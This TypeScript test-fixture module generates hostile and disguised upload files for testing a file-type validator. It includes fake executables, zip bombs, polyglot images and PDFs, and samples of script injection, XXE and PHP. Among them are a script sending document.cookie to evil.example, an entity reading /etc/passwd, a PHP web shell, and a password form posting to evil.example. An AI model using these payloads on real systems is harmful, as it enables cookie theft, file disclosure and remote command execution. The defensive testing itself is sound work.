import { crc32, deflateRawSync } from "node:zlib";
import { PDF, PNG } from "./uploads.ts";

/** Files in disguise, generated here: nothing harmful is kept in the repository. */
export interface HostileFile {
  name: string;
  bytes: Buffer;
  /** What it may pass as if nothing is claimed; absent if it must always be refused. */
  is?: string;
}

/** A zip file with one entry. */
export function zip(name: string, content: Buffer): Buffer {
  const data = deflateRawSync(content);
  const head = Buffer.alloc(30);
  head.write("PK\x03\x04", "latin1");
  head.writeUInt16LE(20, 4);
  head.writeUInt16LE(8, 8);
  head.writeUInt32LE(crc32(content), 14);
  head.writeUInt32LE(data.length, 18);
  head.writeUInt32LE(content.length, 22);
  head.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.write("PK\x01\x02", "latin1");
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  head.copy(central, 16, 14, 30);
  const entry = Buffer.concat([head, Buffer.from(name), data]);
  const directory = Buffer.concat([central, Buffer.from(name)]);
  const end = Buffer.alloc(22);
  end.write("PK\x05\x06", "latin1");
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(entry.length, 16);
  return Buffer.concat([entry, directory, end]);
}

/** The header of a Windows program. */
function exe(): Buffer {
  const bytes = Buffer.alloc(1024);
  bytes.write("MZ", "latin1");
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write("PE\0\0", 0x80, "latin1");
  return bytes;
}

const text = (value: string): Buffer => Buffer.from(value);
const hex = (value: string, size = 512): Buffer => Buffer.concat([Buffer.from(value, "hex"), Buffer.alloc(size)]);
const SCRIPT = "<script>fetch('https://evil.example/'+document.cookie)</script>";
const SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`;
const JPEG = hex("ffd8ffe000104a46494600010100000100010000", 64);
const GIF = Buffer.concat([text("GIF89a"), Buffer.alloc(64)]);
const BOMB = zip("zeros", Buffer.alloc(20_000_000));

export const HOSTILE_FILES: HostileFile[] = [
  { name: "a program for Windows", bytes: exe(), is: "application/x-msdownload" },
  { name: "a program for Linux", bytes: hex("7f454c460201010000000000000000000200"), is: "application/x-elf" },
  { name: "a program for macOS", bytes: hex("cffaedfe0700000103000000"), is: "application/x-mach-binary" },
  { name: "a Java class", bytes: hex("cafebabe00000034"), is: "application/java-vm" },
  { name: "WebAssembly", bytes: hex("0061736d01000000"), is: "application/wasm" },
  { name: "an installer in an office container", bytes: hex("d0cf11e0a1b11ae1", 2048), is: "application/x-cfb" },
  {
    name: "a shortcut of Windows",
    bytes: hex("4c0000000114020000000000c000000000000046"),
    is: "application/x-ms-shortcut",
  },
  { name: "an archive", bytes: zip("a.exe", exe()), is: "application/zip" },
  { name: "an archive that swells", bytes: BOMB, is: "application/zip" },
  { name: "an archive of archives that swell", bytes: zip("bomb.zip", BOMB), is: "application/zip" },
  { name: "a disk image of compressed zeros", bytes: hex("1f8b0800000000000003"), is: "application/gzip" },
  { name: "random bytes", bytes: hex("ff00a5c30099", 300), is: "application/octet-stream" },
  { name: "HTML", bytes: text(`<!DOCTYPE html><html><body>${SCRIPT}</body></html>`) },
  { name: "HTML after blanks", bytes: text(`\n\n\t   ${SCRIPT}`) },
  { name: "HTML after a byte order mark", bytes: text(`\ufeff${SCRIPT}`) },
  { name: "HTML after a comment", bytes: text(`<!-- ${"x".repeat(3000)} --><ScRiPt>alert(1)</sCrIpT>`) },
  { name: "HTML that looks like CSV first", bytes: text(`a,b,c\n1,2,3\n${"4,5,6\n".repeat(20_000)}${SCRIPT}\n`) },
  { name: "HTML between two pieces of a stream", bytes: text(`${"x".repeat(262_140)}<script>alert(1)</script>`) },
  { name: "an image tag with a handler", bytes: text(`hello <img src=x onerror="alert(1)">`) },
  { name: "a link that runs", bytes: text(`[click](javascript:alert(1))`) },
  { name: "a frame", bytes: text(`name,note\nx,<iframe src="//evil.example"></iframe>\n`) },
  { name: "JSON with markup", bytes: text(JSON.stringify({ note: SCRIPT })) },
  { name: "SVG with a script", bytes: text(SVG) },
  { name: "SVG after an XML declaration", bytes: text(`<?xml version="1.0"?>\n${SVG}`) },
  {
    name: "SVG with a prefix",
    bytes: text(`<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>1</s:script></s:svg>`),
  },
  { name: "XHTML", bytes: text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`) },
  {
    name: "XML with a style sheet",
    bytes: text(`<?xml version="1.0"?><?xml-stylesheet href="x.xsl" type="text/xsl"?><a/>`),
  },
  {
    name: "XML with an entity",
    bytes: text(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`),
  },
  { name: "PHP", bytes: text(`<?php system($_GET["c"]); ?>`) },
  { name: "HTML in UTF-16", bytes: Buffer.from(`\ufeff${SCRIPT}`, "utf16le"), is: "application/octet-stream" },
  { name: "text with a zero byte", bytes: text("plain\0text"), is: "application/octet-stream" },
  { name: "text in broken UTF-8", bytes: Buffer.from("c328a0ff61626364", "hex"), is: "application/octet-stream" },
  {
    name: "text that ends inside a character",
    bytes: Buffer.from("616263e282", "hex"),
    is: "application/octet-stream",
  },
  { name: "text with an escape sequence's bell", bytes: text("a\x07b\x08c"), is: "application/octet-stream" },
  {
    name: "a GIF that is a script",
    bytes: Buffer.concat([text("GIF89a/*"), text(`<script>*/alert(1)//</script>`), Buffer.alloc(20)]),
  },
  { name: "a PNG with a page in its head", bytes: Buffer.concat([PNG, text(`<html>${SCRIPT}</html>`)]) },
  { name: "a JPEG with PHP in its head", bytes: Buffer.concat([JPEG, text("<?php evil(); ?>")]) },
  { name: "a PNG that is an archive", bytes: Buffer.concat([PNG, zip("a.exe", exe())]) },
  { name: "a JPEG that is an archive", bytes: Buffer.concat([JPEG, zip("a.jar", exe())]) },
  { name: "a GIF that is an archive", bytes: Buffer.concat([GIF, zip("a.exe", exe())]) },
  { name: "a PDF that is an archive", bytes: Buffer.concat([PDF, zip("a.exe", exe())]) },
  {
    name: "a PDF that is a page",
    bytes: Buffer.concat([text("%PDF-1.7\n"), text(`<html>${SCRIPT}</html>`), PDF.subarray(9)]),
  },
  { name: "a program that is a PDF further on", bytes: Buffer.concat([exe().subarray(0, 600), PDF]) },
];

/** What a reader that guesses the type would run or open. */
const PAYLOADS: Record<string, Buffer> = {
  "a page": text(`<html><body>${SCRIPT}</body></html>`),
  "a drawing with a script": text(SVG),
  "a frame": text(`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`),
  "a handler": text(`<img src=x onerror=alert(1)>`),
  "a form that is sent elsewhere": text(`<form action="//evil.example"><input name=password autofocus></form>`),
  "a page that moves on": text(`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`),
  "an object": text(`<object data="data:text/html;base64,PHNjcmlwdD4="></object>`),
  "a style": text(`<style>@import "//evil.example/x.css";</style>`),
  "a template of a server": text(`<%= system("id") %><?php system("id"); ?>`),
  "an archive with a program": zip("a.exe", exe()),
  "a program": exe(),
};

const COVERS: Record<string, { cover: Buffer; mimeType: string }> = {
  PDF: { cover: PDF, mimeType: "application/pdf" },
  PNG: { cover: PNG, mimeType: "image/png" },
  JPEG: { cover: JPEG, mimeType: "image/jpeg" },
  GIF: { cover: GIF, mimeType: "image/gif" },
  text: { cover: text("Dear all,\n"), mimeType: "text/plain" },
  table: { cover: text("name;note\r\nAda;"), mimeType: "text/csv" },
};

/** Every payload behind every cover. */
export const DISGUISED_FILES = Object.entries(COVERS).flatMap(([as, { cover, mimeType }]) =>
  Object.entries(PAYLOADS).map(([what, payload]) => ({
    name: `${what} behind a ${as}`,
    mimeType,
    bytes: Buffer.concat([cover, payload]),
  })),
);
